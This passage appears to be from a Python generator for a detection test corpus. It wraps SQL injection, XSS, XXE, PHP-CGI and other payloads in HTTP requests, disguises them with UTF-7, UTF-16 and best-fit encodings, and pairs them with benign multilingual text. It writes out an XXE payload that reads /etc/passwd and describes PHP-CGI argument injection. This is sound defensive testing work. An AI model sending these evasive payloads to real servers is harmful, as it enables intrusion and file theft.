             places=("query", "form", "param-name")),
    ],
}


def _xxe(codec: str) -> str:
    doc = ("<!DOCTYPE user [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
           "<user><name>&x;</name><email>ann.lee@example.org</email></user>")
    decl = f"<?xml version=\"1.0\" encoding=\"{codec.upper()}\"?>"
    if codec == "utf-7":
        return decl + utf7(doc)
    return (decl + doc).encode(codec).decode("latin-1")


def items() -> list[Item]:
    """Every attack payload of the set, in a fixed order."""
    out: list[Item] = []
    for t, (tech, fn, kind, k) in enumerate(GENERATED):
        for f, fam in enumerate(FAMILIES):
            base = BASE[fam]
            if tech == "homoglyph":
                base = [p for p in base if any(c in p for c in "'\"/\\")]
            if tech == "html-entity" and fam == "xss":
                chosen = [Item(fam, "", p, TEXT) for p in HTML_XSS]
            else:
                chosen = [Item(fam, "", fn(p, fam, v), kind) for v, p in enumerate(_pick(base, t * 4 + f, k))]
            for it in chosen + EXTRAS.get((tech, fam), []):
                it.sub = f"{tech}-{fam}"
                out.append(it)
    for f, fam in enumerate(FAMILIES):
        picked = _pick(BASE[fam], 3 + f, 6)
        for v, p in enumerate(picked):
            if fam == "xss" and v < 3:
                out.append(Item(fam, "utf7-xss", utf7(p), TEXT))
            else:
                out.append(Item(fam, f"utf7-{fam}", p, BODY, codec="utf-7"))
        if fam == "lfi":
            out.append(Item(fam, "utf7-lfi", _xxe("utf-7"), RAWXML))
    for f, fam in enumerate(FAMILIES):
        for v, p in enumerate(_pick(BASE[fam], 5 + 2 * f, 6)):
            out.append(Item(fam, f"utf16-body-{fam}", p, BODY, codec=WIDE[(v + f) % len(WIDE)]))
        if fam == "lfi":
            out.append(Item(fam, "utf16-body-lfi", _xxe("utf-16le"), RAWXML, codec="utf-16le"))
    for fam, ps in JS.items():
        out.extend(Item(fam, f"js-escape-{fam}", p, TEXT) for p in ps)
    out.extend(Item("xss", "css-escape-xss", p, TEXT) for p in CSS_XSS)
    for fam, ps in BEST_FIT.items():
        out.extend(Item(fam, f"best-fit-{fam}", p, TEXT) for p in ps)
    out.extend(Item("php", "best-fit-php", p, WIRE, places=("param-name",)) for p in BEST_FIT_PHP_WIRE)
    return out


def allocate(its: list[Item]) -> list[str]:
    """Each item's place: the least-used place it fits, the most constrained items first."""
    counts = dict.fromkeys(PLACES, 0)
    chosen = [""] * len(its)
    order = sorted(range(len(its)), key=lambda i: len(its[i].places or ALLOWED[its[i].kind]))
    for n, i in enumerate(order):
        allowed = list(its[i].places or ALLOWED[its[i].kind])
        rot = n % len(allowed)
        allowed = allowed[rot:] + allowed[:rot]
        place = min(allowed, key=lambda pl: counts[pl])
        counts[place] += 1
        chosen[i] = place
    return chosen


# ---------------------------------------------------------------------------------------------------------------
# Request builders
# ---------------------------------------------------------------------------------------------------------------
def _tok(*parts: object) -> str:
    return hashlib.sha256("|".join(map(str, parts)).encode()).hexdigest()


def _q(s: str) -> str:
    return urllib.parse.quote(s, safe="")


def _qp(s: str) -> str:
    return urllib.parse.quote_plus(s, safe="")


def _wide(text: str, codec: str) -> str:
    """`text` encoded in `codec`, as the str whose UTF-8 bytes are those bytes (ASCII text only)."""
    if codec == "utf-7":
        return utf7(text)
    raw = text.encode(codec)
    if any(b >= 0x80 for b in raw):
        raise ValueError("wide bodies carry ASCII text only")
    return raw.decode("latin-1")


def _headers(i: int, accept: str = "application/json, text/plain, */*") -> dict[str, str]:
    return {"User-Agent": UA_CHROME if i % 3 else UA_FIREFOX, "Accept": accept,
            "Accept-Language": ["en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.6"][i % 3],
            "Accept-Encoding": "gzip, deflate, br",
            "Referer": "https://app.example.com/admin/users",
            "Cookie": f"session={_tok('session', i)[:32]}; consent=necessary"}


PARAMS = {"sqli": ["q", "id", "sort", "email"], "xss": ["q", "name", "message", "return_to"],
          "php": ["q", "page", "data", "template"], "rce": ["host", "q", "filename", "cmd"],
          "lfi": ["file", "path", "template", "lang"], "rfi": ["page", "include", "url", "template"],
          "java": ["q", "name", "lookup", "redirect"], "generic": ["url", "callback", "webhook", "q"],
          "ssti": ["q", "name", "greeting", "template"]}
JSON_FIELDS = ["name", "bio", "title", "department", "address", "display_name", "notes"]
OAUTH_FIELDS = ["code", "state", "redirect_uri", "client_id", "scope", "code_verifier"]
COOKIE_NAMES = ["prefs", "last_search", "theme", "display_name", "tz", "cart"]
MP_FIELDS = ["display_name", "description", "notes", "title"]
XML_FIELDS = ["name", "bio", "title", "department", "website"]


def _frag_doc(field: str, frag: str) -> str:
    return '{"' + field + '":"' + frag + '","op":"contains"}'


def _in_url(it: Item) -> str:
    if it.kind == WIRE:
        return it.payload
    if it.kind == FRAG:
        return _q(_frag_doc("name", it.payload))
    return _q(it.payload)


def _in_form(it: Item) -> str:
    if it.kind == WIRE:
        return it.payload
    if it.kind == FRAG:
        return _qp(_frag_doc("name", it.payload))
    return _qp(it.payload)


def _cdata(text: str) -> str:
    """`text` as XML element content: as it is when it is well-formed (character references are the point of
    some payloads: the XML parser decodes them), else in a CDATA section."""
    if re.fullmatch(r"(?:[^<&]|&#[0-9]+;|&#x[0-9a-fA-F]+;|&(?:lt|gt|amp|quot|apos);)*", text) or "]]>" in text:
        return text
    return "<![CDATA[" + text + "]]>"


def _oauth_fields(i: int, field: str, value: str) -> list[tuple[str, str]]:
    fields = [("grant_type", "authorization_code"), ("code", _tok("code", i)[:40]),
              ("redirect_uri", "https://app.example.com/oauth/callback"), ("client_id", "web-console"),
              ("code_verifier", _tok("verifier", i)[:43]), ("state", _tok("state", i)[:16])]
    if field in {k for k, _ in fields}:
        return [(k, value if k == field else v) for k, v in fields]
    return [*fields, (field, value)]


def _multipart(i: int, parts: list[tuple[str, str, str, str]]) -> tuple[str, str]:
    """(content type, body) of a multipart/form-data body; parts are (name, filename, content type, content)."""
    boundary = "----WebKitFormBoundary" + _tok("boundary", i)[:16]
    lines = []
    for name, filename, ctype, content in parts:
        disp = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
        lines.append(f"--{boundary}\r\nContent-Disposition: {disp}\r\n"
                     + (f"Content-Type: {ctype}\r\n" if ctype else "") + f"\r\n{content}\r\n")
    return f"multipart/form-data; boundary={boundary}", "".join(lines) + f"--{boundary}--\r\n"


def build(place: str, it: Item, i: int) -> dict[str, Any]:
    h = _headers(i)
    names = PARAMS[it.family]
    name = names[i % len(names)]
    if place == "query":
        pname = "filter" if it.kind == FRAG else name
        params = [f"{pname}={_in_url(it)}", f"page={1 + i % 7}", f"per_page={[20, 50, 100][i % 3]}"]
        rot = i % 3
        return {"method": "GET", "uri": "/api/users?" + "&".join(params[rot:] + params[:rot]), "body": "",
                "headers": h}
    if place == "form" and it.kind != BODY:
        fname = "filters" if it.kind == FRAG else name
        body = f"csrf_token={_tok('csrf', i)[:32]}&{fname}={_in_form(it)}" + ("&role=any" if i % 2 else "")
        return {"method": "POST", "uri": "/admin/users/search", "body": body,
                "headers": {**h, "Accept": "text/html,application/xhtml+xml",
                            "Content-Type": "application/x-www-form-urlencoded",
                            "Origin": "https://app.example.com"}}
    if place == "form":
        fields = [("csrf_token", _tok("csrf", i)[:32]), (name, it.payload)]
        return _charset_form("/admin/users/search", fields, it.codec, h)
    if place == "oauth-form":
        hh = {"User-Agent": "okhttp/4.12.0" if i % 2 else UA_CHROME, "Accept": "application/json"}
        if it.kind == BODY:
            field = OAUTH_FIELDS[i % len(OAUTH_FIELDS)]
            return _charset_form("/oauth/token", _oauth_fields(i, field, it.payload), it.codec, hh)
        if it.kind == FRAG:
            value = _qp('{"userinfo":{"name":{"essential":true,"value":"' + it.payload + '"}}}')
            field = "claims"
        else:
            field = OAUTH_FIELDS[i % len(OAUTH_FIELDS)]
            value = _in_form(it)
        parts = [f"{k}={value if k == field else _qp(v)}" for k, v in _oauth_fields(i, field, "")]
        return {"method": "POST", "uri": "/oauth/token", "body": "&".join(parts),
                "headers": {**hh, "Content-Type": "application/x-www-form-urlencoded"}}
    if place == "json":
        field = JSON_FIELDS[i % len(JSON_FIELDS)]
        uri, method = ("/api/users/42", "PATCH") if i % 5 == 0 else ("/api/users", "POST")
        hh = {**h, "Content-Type": "application/json", "Origin": "https://app.example.com"}
        doc = {"email": "ann.lee@example.org", "name": "Ann Lee", field: it.payload}
        if it.kind == FRAG:
            body = '{"email":"ann.lee@example.org","role":"viewer","' + field + '":"' + it.payload + '"}'
        elif it.kind == BODY:
            body = _wide(json.dumps(doc), it.codec)
            hh["Content-Type"] = f"application/json; charset={it.codec}"
        else:
            body = json.dumps(doc, ensure_ascii=False)
        return {"method": method, "uri": uri, "body": body, "headers": hh}
    if place == "cookie":
        cname = COOKIE_NAMES[i % len(COOKIE_NAMES)]
        if it.kind == WIRE:
            value = it.payload
        elif it.kind == FRAG:
            value = _q(_frag_doc("q", it.payload))
        elif re.fullmatch(r"[^;,\s\"\\]+", it.payload):
            value = it.payload
        else:
            value = _q(it.payload)
        return {"method": "GET", "uri": f"/api/users?page={1 + i % 7}", "body": "",
                "headers": {**h, "Cookie": f"session={_tok('session', i)[:32]}; consent=necessary; {cname}={value}"}}
    if place == "header:User-Agent":
        ua = it.payload if i % 2 == 0 else UA_CHROME + " " + it.payload
        return {"method": "GET", "uri": f"/api/users?page={1 + i % 7}", "body": "", "headers": {**h, "User-Agent": ua}}
    if place == "header:Referer":
        value = it.payload if it.kind == WIRE or i % 2 else _q(it.payload)
        return {"method": "GET", "uri": f"/api/users?page={1 + i % 7}", "body": "",
                "headers": {**h, "Referer": "https://app.example.com/users?q=" + value}}
    if place == "param-name" and it.payload.startswith("%AD"):
        # PHP-CGI reads a query string without "=" as its command line
        return {"method": "GET", "uri": "/api/users?" + it.payload, "body": "", "headers": h}
    if place == "param-name":
        return {"method": "GET", "uri": f"/api/users?{_in_url(it)}=1&page={1 + i % 7}", "body": "", "headers": h}
    if place == "path":
        prefix = {"lfi": "/api/files/", "rfi": "/api/templates/"}.get(it.family, "/api/users/")
        return {"method": "GET", "uri": prefix + _in_url(it), "body": "", "headers": h}
    if place == "multipart-field":
        uri = "/admin/users/import" if i % 2 else "/api/users/42/avatar"
        field = MP_FIELDS[i % len(MP_FIELDS)]
        if it.kind == FRAG:
            part = ("metadata", "", "application/json", '{"title":"' + it.payload + '"}')
        elif it.kind == BODY:
            part = (field, "", f"text/plain; charset={it.codec}", _wide(it.payload, it.codec))
        else:
            part = (field, "", "", it.payload)
        upload = (("file", "users.csv", "text/csv", "name,email\r\nAnn Lee,ann.lee@example.org")
                  if i % 2 else ("avatar", "me.png", "image/png", "PNG-bytes"))
        ctype, body = _multipart(i, [("csrf_token", "", "", _tok("csrf", i)[:32]), part, upload])
        return {"method": "POST", "uri": uri, "body": body,
                "headers": {**h, "Content-Type": ctype, "Origin": "https://app.example.com"}}
    if place == "xml":
        uri = "/api/users" if i % 2 else "/api/users/bulk"
        if it.kind == RAWXML:
            ctype = "application/xml" + (f"; charset={it.codec}" if it.codec else "")
            return {"method": "POST", "uri": uri, "body": it.payload, "headers": {**h, "Content-Type": ctype}}
        field = XML_FIELDS[i % len(XML_FIELDS)]
        value = _cdata(it.payload)
        inner = (f"<user><name>Ann Lee</name><email>ann.lee@example.org</email>"
                 f"<{field}>{value}</{field}></user>") if field != "name" else \
            f"<user><name>{value}</name><email>ann.lee@example.org</email></user>"
        if it.kind == BODY:
            decl = f"<?xml version=\"1.0\" encoding=\"{it.codec.upper()}\"?>"
            body = decl + utf7(inner) if it.codec == "utf-7" else _wide(decl + inner, it.codec)
            return {"method": "POST", "uri": uri, "body": body,
                    "headers": {**h, "Content-Type": f"application/xml; charset={it.codec}"}}
        return {"method": "POST", "uri": uri, "body": "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + inner,
                "headers": {**h, "Content-Type": "application/xml"}}
    raise ValueError(place)


def _charset_form(uri: str, fields: list[tuple[str, str]], codec: str, h: dict[str, str]) -> dict[str, Any]:
    """A urlencoded form declared in `codec`: UTF-7 values percent-encoded, or the whole body in UTF-16/32."""
    if codec == "utf-7":
        body = "&".join(f"{k}={_qp(utf7(v))}" for k, v in fields)
    else:
        body = _wide(urllib.parse.urlencode(fields), codec)
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {**h, "Content-Type": f"application/x-www-form-urlencoded; charset={codec}"}}


def attacks() -> Iterator[dict[str, Any]]:
    its = items()
    for n, (it, place) in enumerate(zip(its, allocate(its), strict=True), start=1):
        payload = it.payload
        yield {**build(place, it, n), "id": f"{NAME}-{it.family}-{n:04d}", "category": it.family, "sub": it.sub,
               "placement": place, "payload": payload}


# ---------------------------------------------------------------------------------------------------------------
# Benign: real text in many scripts and the same characters used innocently
# ---------------------------------------------------------------------------------------------------------------
def nfd(s: str) -> str:
    return unicodedata.normalize("NFD", s)


SLACK_TEXTS = [
    # Japanese: fullwidth punctuation, digits and Latin letters are ordinary
    "明日の定例は１０：３０開始です。資料は「共有ドライブ／営業部／２０２４」に置きました！",
    "【お知らせ】１２月２８日（土）〜１月３日（金）は休業します。",
    "山田さん、見積書（￥１，２００，０００）の確認をお願いします。",
    "ＡＢＣ商事の佐藤様より「納期を１週間延ばせないか」との連絡がありました。",
    "〒１００－０００５　東京都千代田区丸の内１－９－１　ＪＰタワー１５Ｆ",
    "了解です！＼(^o^)／ 今日中に対応します。",
    "① 申込書 ② 本人確認書類 ③ 印鑑 をご持参ください。",
    "サーバーの再起動は２３：００〜２３：３０の予定です（約３０分）。",
    "ＳＥＬＥＣＴ　ＳＨＯＰ　渋谷店の新しい住所をＣＲＭに登録しました。",
    "ﾔﾏﾀﾞ ﾀﾛｳ（半角カナ）で登録されている顧客データを全角に直しておきます。",
    "お疲れさまです。議事録を＃general に貼りました＊要確認＊",
    # Chinese and Korean
    "请在周五（12月6日）之前提交季度报告，谢谢！",
    "地址：上海市浦东新区世纪大道１００号，邮编２０００１２。",
    "会议改到下午３点，地点：３号会议室；请带上笔记本电脑。",
    "價格：NT$１，５００／月（含稅），詳情見附件。",
    "안녕하세요! 오늘 회의는 오후 3시에 시작합니다. ‘확인’ 버튼을 눌러 주세요.",
    "₩50,000 입금 확인했습니다. 감사합니다 🙏",
    "서울특별시 강남구 테헤란로 152, 12층 (역삼동)",
    # South and South-East Asian scripts, with their joiners and zero-width spaces
    "ภาษา\u200bไทย\u200bไม่\u200bมี\u200bช่อง\u200bว่าง\u200bระหว่าง\u200bคำ",
    "ประชุม\u200bพรุ่งนี้\u200bเวลา 10:00 น. ห้อง 4B",
    "សួស្តី\u200bពិភពលោក! ការប្រជុំ\u200bថ្ងៃស្អែក",
    "नमस्ते! कल की बैठक सुबह 10 बजे है।",
    "क्\u200dषमा करें, रिपोर्ट में थोड़ी देरी होगी।",
    "আগামীকাল সকাল ১০টায় মিটিং আছে।",
    "வணக்கம், நாளை சந்திப்போம்.",
    "ශ්\u200dරී ලංකා ශාඛාව සඳුදා විවෘතයි.",
    "നന്ദി! ഞങ്ങൾ ഉടൻ ബന്ധപ്പെടും.",
    "Xin chào! Báo cáo tuần này đã được gửi lúc 9:00.",
    nfd("Nguyễn Văn An đã gửi báo cáo tuần này"),
    # RTL text with directional marks
    "\u200fתם שחרור הגרסה 4.2 \u200f(ביום שני)",
    "\u200fשלום, ההזמנה מספר \u200e#4512\u200e נשלחה.",
    "שָׁלוֹם עֲלֵיכֶם, נתראה מחר",
    "\u200fتم شحن الطلب رقم \u200e#4512\u200e اليوم.",
    "مَرْحَبًا بِكُمْ في فريق الدعم",
    "می\u200cخواهم جلسه را به فردا موکول کنم.",
    "نمی\u200cدانم فایل گزارش کجاست؛ لطفاً لینک را بفرستید.",
    "شکریہ! میٹنگ کل صبح 10 بجے ہے۔",
    # Cyrillic, Greek, Caucasus, Ethiopic
    "Привет! Отчёт за 3-й квартал — в папке «Финансы/2024».",
    "Встреча переносится на «завтра», 15:00.",
    "Дарʼя, підготуй, будь ласка, звіт до пʼятниці.",
    "Καλημέρα! Η συνάντηση είναι στις 10:00 στη Θεσσαλονίκη.",
    "გამარჯობა! შეხვედრა ხვალ 11 საათზე.",
    "Բարև, հանդիպումը վաղը ժամը 10-ին է։",
    "ሰላም! ስብሰባው ነገ ነው።",
    # Latin with diacritics, soft hyphens and typographic quotes
    "Toplantı yarın saat 14:00’te, İstanbul ofisinde.",
    "Zażółć gęślą jaźń — test polskich znaków w raporcie.",
    "Příliš žluťoučký kůň úpěl ďábelské ódy.",
    "Die Donau\u00addampf\u00adschiff\u00adfahrts\u00adgesell\u00adschaft hat geantwortet.",
    "Bitte die Rechts\u00adschutz\u00adversicherung bis Freitag prüfen.",
    "L’équipe d’Émilie a terminé l’audit « sécurité » hier soir.",
    "Œuvres complètes de Molière, éd. 1998 — à commander.",
    "¿Puedes revisar el informe? ¡Gracias!",
    "Þórður og Ægir koma á morgun.",
    "„Das Angebot“ liegt im Ordner »Kunden«.",
    "“I’ll be there by 10,” she said — don’t wait for me.",
    "Let’s rename ‘Q3 Review’ to ‘Q3 Retro’ before Friday.",
    "The ‘Select all’ checkbox doesn’t work on Safari 17.",
    "The sign says “Drop-off point” but it’s really the loading dock.",
    "We’re meeting at the ‘Union’ café — it’s the one from last time.",
    "Hawaiʻi office opens at 8; Oʻahu team joins by video.",
    # emoji with ZWJ sequences
    "👩\u200d💻 WFH today, ping me here",
    "Congrats on the baby! 👨\u200d👩\u200d👧",
    "Happy Pride month 🏳️\u200d🌈",
    "🧑🏽\u200d🚀 launch day for the new onboarding!",
    "❤️\u200d🔥 this release, great work all",
    "🤷\u200d♀️ no idea, ask ops",
    # ligatures from PDFs, maths and units
    "Per the ﬁnal report, the oﬃce ﬂoor plan is ﬁxed.",
    "Please ﬁle the expense report by Friday.",
    "Average latency ≈ 120 ms, p99 ≤ 450 ms after the fix.",
    "E = mc² — still true in 2024",
    "Area ≈ 45 m², rent €1 200/month",
    "CO₂ emissions down 12 % year over year",
    "∑ of open invoices = €12 340",
    "Circle check: x² + y² = r², so r = √(x² + y²)",
    "This year is 3∕4 of last year’s volume.",
    "Recipe: ½ cup sugar, ¼ tsp salt, 2 eggs",
    "He’s 5′11″ and plays centre.",
    "Server room at 21 ℃, humidity 45 %",
    "№ 42 on the waiting list, ETA ~2 weeks",
    "Speed limit on site is 20 km∕h.",
    "∀ x ∈ ℝ: x² ≥ 0",
    "𝐍𝐞𝐰 𝐚𝐫𝐫𝐢𝐯𝐚𝐥𝐬 this week in the shop!",
    "𝓣𝓱𝓪𝓷𝓴 𝔂𝓸𝓾 for coming ✨",
    "Ⓒ 2024 Acme Studio — all rights reserved",
    "¥1,200 for lunch is fine, receipts please",
    "Budget: ₩3,500,000 for the Seoul offsite",
    "¯\\_(ツ)_/¯ no idea why the build failed",
    "(╯°□°)╯︵ ┻━┻ flaky test again",
    # percent-encoded links
    "see https://ja.wikipedia.org/wiki/%E6%9D%B1%E4%BA%AC%E9%83%BD for background",
    "map: https://www.google.com/maps/search/%E6%B8%8B%E8%B0%B7%E9%A7%85",
    "https://de.wikipedia.org/wiki/Stra%C3%9Fenbahn has the history",
    "doc: https://example.sharepoint.com/sites/ops/Shared%20Documents/Q3%20Review%20(final).pdf",
    "https://ru.wikipedia.org/wiki/%D0%9C%D0%BE%D1%81%D0%BA%D0%B2%D0%B0 — good summary",
    # entities and escapes, as people paste them
    "We&#8217;re hiring! Join the R&amp;D team",
    "Tom &amp; Jerry marathon tonight in the lounge",
    "&copy; 2024 Example Corp. in the footer looks wrong",
    "in JS use '\\u00e9' if the bundle isn't UTF-8",
    "CSS: blockquote::before { content: '\\201C'; }",
    "font-family: '\\5FAE\\8F6F\\96C5\\9ED1' is Microsoft YaHei",
    "JSON shows emoji as \\ud83d\\ude00 when ensure_ascii is on",
    "IMAP shows INBOX.Entw&APw-rfe, that's modified UTF-7 for Entwürfe",
    "the CSV starts with a BOM (U+FEFF), strip it before parsing",
    "macOS hands us NFD filenames, normalize to NFC before comparing",
    "Windows-1252 maps curly quotes differently, keep the export in UTF-8",
    "C++ and C# folks: lunch & learn at 12:30",
    "call +1-555-0100 or +81 3-1234-5678",
]

SEARCHES = [
    "山田太郎", "ヤマダ", "ﾔﾏﾀﾞ", "ＡＢＣ商事", "ＴＥＬ：０３－１２３４－５６７８", "〒150-0002", "１２３４",
    "ｔｅｓｔ", "営業部（東京）", "佐藤　花子", "Müller", "Mueller", "Núñez", "Søren", "Đặng", "O’Brien",
    "D’Angelo", "Дарʼя", "пʼятниця", "Hawaiʻi", "Łukasz", "İstanbul", "Ærøskøbing", nfd("Zoë"), nfd("Beyoncé"),
    "François", "北京", "서울", "김민준", "Αθήνα", "תל אביב", "القاهرة", "मुंबई", "கோயம்புத்தூர்", "ශ්\u200dරී ලංකා",
    "Москва", "Київ", "ﬁnance", "CO₂", "m²", "①", "Ⓐ team", "“quarterly report”", "‘draft’", "R&D", "Tom & Jerry",
    "AT&T", "C++", "C#", "50% off", "#hashtag", "a/b testing", "½ price", "résumé", "naïve", "façade",
    "smörgåsbord", "👩\u200d💻", "🏳️\u200d🌈", "👍🏽", "😀", "🇯🇵", "∞", "π", "√2", "x²", "≤ 10", "±5",
    "℃", "№1", "™", "…", "—", "«Финансы»", "„Angebot“", "»Zitat«", "Ελληνικά", "Ñandú", "Cañón", "Göteborg",
    "Malmö", "Ångström", "Straße", "Dvořák", "Škoda", "Čapek", "Ørsted", "Reykjavík", "Kraków", "Wrocław",
    "Şanlıurfa", "Ağrı", "São Paulo", "Curaçao", "Bogotá", "Nguyễn", "Trần", "Phạm", "Hà Nội", "Đà Nẵng",
    "ประเทศไทย", "ລາວ", "မြန်မာ", "ខ្មែរ", "ગુજરાત", "ਪੰਜਾਬ", "ಬೆಂಗಳೂರು", "తెలుగు", "বাংলা",
    "می\u200cخواهم", "Rechts\u00adschutz", "Ｎｏ．５", "１０％ＯＦＦ", "（株）山田商店", "ｅメール",
]

FORM_TEXTS = [
    "jürgen@müller.de", "山田 太郎 <yamada@example.co.jp>", "Vertrieb & Marketing", "営業部（東京）",
    "R&D／開発", "المبيعات والتسويق", "מחלקת שיווק", "Ventas – América Latina", "Отдел продаж",
    "Ἀθῆναι office", "ＴＥＬ：０３－１２３４－５６７８", "support＠example.jp", "Ｍｒ．Ｓｍｉｔｈ",
    "O’Neil, Siobhán", "DʼArcy", "L’Oréal account", "Smith & Wesson", "Procter & Gamble", "Ben & Jerry’s",
    "Straße der Pariser Kommune 12", "Rue de l’Église 4", "Calle Año Nuevo 7", "Δημοκρατίας 14",
    "ул. Пушкина, д. 10", "東京都渋谷区神南１－２－３", "北京市朝阳区建国路８８号", "부산광역시 해운대구",
    "Paço de Arcos", "Åsa Öberg", "Ægir Þórsson", "Ólafur Ragnar", "Zoë Saldaña", nfd("José Núñez"),
    nfd("Renée Côté"), "Nguyễn Thị Minh Khai", "Ngô Bảo Châu", "Ahmed Al-Farsi (أحمد الفارسي)",
    "Yitzhak (יצחק) Cohen", "Mehmet Öztürk", "Łucja Wróbel", "Dvořák, Antonín", "Škoda Auto a.s.",
    "Chloë ﬁnance team", "oﬃce manager", "Ⅳ floor", "Ⓡ registered", "Level ②", "floor ３Ｆ",
    "x² pricing tier", "CO₂ report 2024", "m² rates", "½ day leave", "≥ 5 years", "≤ €500",
    "“Platinum” customers", "‘beta’ testers", "«VIP» клиенты", "„Premium“ Kunden", "『新規』顧客",
    "「重要」フラグ付き", "【至急】対応", "★★★ reviews", "♥ favourites", "→ escalated", "✓ verified",
    "👩\u200d💼 managers", "🧑\u200d🔧 technicians", "🇺🇦 team", "🏳️\u200d⚧️ ERG", "ﬂoor 3 reception",
    "Rechts\u00adabteilung", "Kranken\u00adversicherung", "Bundes\u00administerium", "informa\u00adtion desk",
    "\u200fמחלקת כספים", "\u200fقسم الموارد البشرية", "دفتر\u200cها", "کتاب\u200cخانه", "ශ්\u200dරී ලංකා desk",
    "क्\u200dषेत्र प्रबंधक", "ℌ𝔢𝔩𝔩𝔬 team", "𝐕𝐈𝐏", "𝕄𝕒𝕥𝕙 club", "ＣＥＯ室", "ＩＴ推進部", "ｱｲﾃｨｰ部",
    "Café del Mar", "Crème brûlée catering", "Ærø ferry", "Piñata supplies", "Jalapeño inc.", "naïve bayes team",
]

PEOPLE = [
    ("山田 太郎", "営業部長", "営業部", "東京都千代田区丸の内１－９－１",
     "趣味は釣りと写真です。よろしくお願いします！"),
    ("佐藤 花子", "エンジニア", "開発部（大阪）", "大阪府大阪市北区梅田３－１－３",
     "フロントエンド担当です。Ｒｅａｃｔ好き。"),
    ("김민준", "디자이너", "디자인팀", "서울특별시 강남구 테헤란로 152", "‘좋은 디자인’을 고민합니다 🎨"),
    ("王芳", "产品经理", "产品部", "北京市朝阳区建国路８８号", "喜欢读书和跑步。"),
    ("陳怡君", "資深工程師", "研發部", "台北市信義區市府路４５號", "負責後端與資料庫。"),
    ("Jürgen Müller", "Leiter Vertrieb", "Vertrieb & Marketing", "Straße des 17. Juni 135, Berlin",
     "Ansprech\u00adpartner für Groß\u00adkunden."),
    ("Siobhán O’Neil", "Account Manager", "Sales – EMEA", "12 O’Connell St, Dublin", "“Happy to help” — ask me!"),
    ("Dʼarcy Lefèvre", "Chef de projet", "Opérations", "4 rue de l’Église, Lyon", "L’organisation, c’est ma passion."),
    ("Zoë Saldaña", "UX Researcher", "Design", "Calle Año Nuevo 7, Madrid", "Café ☕ & usability tests"),
    (nfd("José Núñez"), "Ingeniero", "Plataforma", "Av. Providencia 1234, Santiago", nfd("Ingeniería de datos")),
    ("Nguyễn Văn An", "Kỹ sư phần mềm", "Phát triển", "12 Lý Thường Kiệt, Hà Nội", "Thích cà phê sữa đá."),
    ("Ахмед Алиев", "Аналитик", "Финансы", "ул. Пушкина, д. 10, Москва", "Отчёты — «по пятницам»."),
    ("Дарʼя Коваль", "Менеджерка", "Продажі", "вул. Хрещатик, 22, Київ", "Пʼю каву й пишу код ☕"),
    ("Γιώργος Παπαδόπουλος", "Μηχανικός", "Υποδομές", "Δημοκρατίας 14, Θεσσαλονίκη", "Καλή συνεργασία!"),
    ("יצחק כהן", "מפתח", "פיתוח", "\u200fרחוב הרצל 10, תל אביב", "\u200fאוהב קפה וקוד"),
    ("أحمد الفارسي", "مدير المنتج", "المنتجات", "\u200fشارع الملك فهد، الرياض", "مَرْحَبًا! أعمل على تطبيقات الجوال."),
    ("سارا رضایی", "طراح", "طراحی", "تهران، خیابان ولیعصر", "می\u200cخواهم محصولات بهتری بسازم."),
    ("प्रिया शर्मा", "डेटा वैज्ञानिक", "एनालिटिक्स", "मुंबई, महाराष्ट्र", "क्\u200dषमता निर्माण पर काम करती हूँ।"),
    ("Kavindu Perera (කවිඳු)", "QA Lead", "Quality", "ශ්\u200dරී ජයවර්ධනපුර කෝට්ටේ", "Test automation & CI"),
    ("สมชาย ใจดี", "วิศวกร", "ฝ่ายไอที", "กรุงเทพมหานคร", "ชอบ\u200bเขียน\u200bโค้ด"),
    ("Mehmet Öztürk", "Yazılım Mühendisi", "Ar-Ge", "İstiklal Cd. 45, İstanbul", "Çay ve kod."),
    ("Łucja Wróbel", "Programistka", "Rozwój", "ul. Świętokrzyska 5, Warszawa", "Zażółć gęślą jaźń."),
    ("Ægir Þórsson", "Sérfræðingur", "Rekstur", "Laugavegur 12, Reykjavík", "Góðan daginn!"),
    ("Åsa Öberg", "Utvecklare", "Plattform", "Drottninggatan 5, Stockholm", "Fika är viktigt ☕"),
    ("Keʻala Kahananui", "Support Lead", "Support", "Honolulu, Hawaiʻi", "Aloha! Mahalo for reaching out."),
    ("Chloë Brontë", "Finance Analyst", "ﬁnance", "Oﬃce 4, 10 Downing Way", "Spreadsheets ∑ & coﬀee"),
    ("Dr. Ω Okafor", "Physicist", "R&D", "Lagos", "Working on ∂u/∂t = α∇²u"),
    ("Mia 𝓒𝓱𝓮𝓷", "Community", "Marketing", "Singapore", "𝐍𝐞𝐰𝐬𝐥𝐞𝐭𝐭𝐞𝐫 every Friday ✨"),
    ("Leilani 👩\u200d💻", "Developer", "Platform", "Auckland", "Open source 🏳️\u200d🌈 and surfing"),
    ("Tomás Ó Súilleabháin", "Engineer", "Infra", "Corcaigh", "Dia dhuit!"),
]

ESC_DOCS: list[dict[str, Any]] = [
    {"name": n, "title": t, "bio": b} for n, t, _, _, b in PEOPLE
] + [
    {"name": "Ann Lee", "status": "🎉 shipped!", "bio": "Loves 🍣 and 🏔️"},
    {"name": "Kenji", "status": "会議中 🙇", "bio": "𝐂𝐨𝐟𝐟𝐞𝐞 first"},
    {"name": "Priya", "status": "🌴 on leave until 5/8", "bio": "👩\u200d👧 mum of one"},
    {"name": "Omar", "status": "\u200fفي اجتماع", "bio": "🕌 Ramadan hours 9–3"},
    {"name": "Noa", "status": "🇮🇱 remote", "bio": "\u200fאוהבת 🎸"},
    {"name": "Marta", "status": "✈️ WAW→LIS", "bio": "½ engineer, ½ designer"},
    {"name": "Lucas", "status": "🤒 sick", "bio": "x² + y² = 🍩"},
    {"name": "Hana", "status": "ﾃｽﾄ中", "bio": "ＪＡＶＡとＰｙｔｈｏｎ"},
    {"name": "Ivan", "status": "«в отпуске»", "bio": "Пʼю чай"},
    {"name": "Sofia", "status": "Ⓞⓝ ⓐⓘⓡ", "bio": "🎙️ podcasts"},
]

OAUTH_EXTRAS = [
    ("state", "/projects/Straße-42?tab=übersicht"), ("state", "/ja/ダッシュボード"), ("state", "/ru/отчёты?год=2024"),
    ("login_hint", "jürgen@müller.de"), ("login_hint", "山田@例え.jp"), ("login_hint", "siobhán.o’neil@example.ie"),
    ("ui_locales", "ja-JP zh-Hant-TW"), ("ui_locales", "he-IL ar-SA"), ("device_name", "山田のiPhone"),
